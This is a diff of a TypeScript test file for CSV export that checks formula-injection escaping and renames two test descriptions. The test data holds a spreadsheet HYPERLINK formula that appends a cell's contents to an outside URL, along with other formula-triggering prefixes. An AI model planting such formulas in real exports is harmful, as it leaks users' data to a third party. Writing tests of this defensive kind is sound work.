@@ -5,7 +5,7 @@ import { readWorks, worksFile } from './works.ts';
 
 const category = { key: 'Novel', fields: [{ key: 'title' }] } as const;
 
-it('marks a text that a spreadsheet would run, and nothing else', () => {
+it('escapes only text that a spreadsheet would run', () => {
   const formula = '=HYPERLINK("https://example.com/?"&A1)';
   const rows = parse(
     toCsv([[formula, '@A1', '+1', '-1', '\t=1', '\n=1', ' =1', '＝1', '1984', 'A = B', -1]]),
@@ -21,7 +21,7 @@ it.each([
   ['Aoife; \u2060-1;b', "Aoife;' \u2060-1;b"],
   ["a;'=1", "a;''=1"],
   ['a\t+1', "a\t'+1"],
-])('marks %j, where a spreadsheet would find a formula, and reads it back', (text, marked) => {
+])('escapes %j, where a spreadsheet would find a formula, and reads it back', (text, marked) => {
   const [[written = '']] = parse(toCsv([[text]])) as [[string]];
   expect(written).toBe(marked);
   expect(unmarked(written)).toBe(text);
